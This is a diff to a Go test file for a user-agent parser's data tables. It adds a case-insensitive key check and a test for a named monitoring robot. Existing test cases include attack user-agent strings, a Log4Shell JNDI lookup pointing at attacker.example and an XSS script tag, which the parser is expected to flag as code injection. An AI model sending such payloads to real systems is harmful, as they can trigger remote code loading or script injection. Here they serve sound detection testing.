@@ -34,6 +34,10 @@ func TestTablesWellFormed(t *testing.T) {
 			switch e.Name() {
 			case "cpu.tsv", "system_releases.tsv":
 				key = r[0] + " " + r[1]
+			case "named_robots.tsv":
+				// The rule looks keys up in lower case: two keys that
+				// differ only in case would be one.
+				key = strings.ToLower(r[0])
 			case "attack_signatures.tsv":
 				key = r[0] + " " + r[1]
 				// The loader matches fragments on the lower case user
@@ -127,6 +131,8 @@ func TestTableFactsReachTheAnalyzer(t *testing.T) {
 		{"ExampleIndexer/1.0", "DeviceClass", "Robot"},
 		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Prerender (+https://github.com/prerender/prerender)", "AgentClass", "Robot"},
 		{"Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", "DeviceClass", "Phone"},
+		// named_robots.tsv (a monitor known only by its name)
+		{"StatusCake/2.0", "DeviceClass", "Robot"},
 		// attack_signatures.tsv, one fragment of each family
 		{"Mozilla/5.0 ${jndi:ldap://attacker.example/a}", "HackerAttackVector", "Code Injection"},
 		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>", "HackerAttackVector", "Code Injection"},
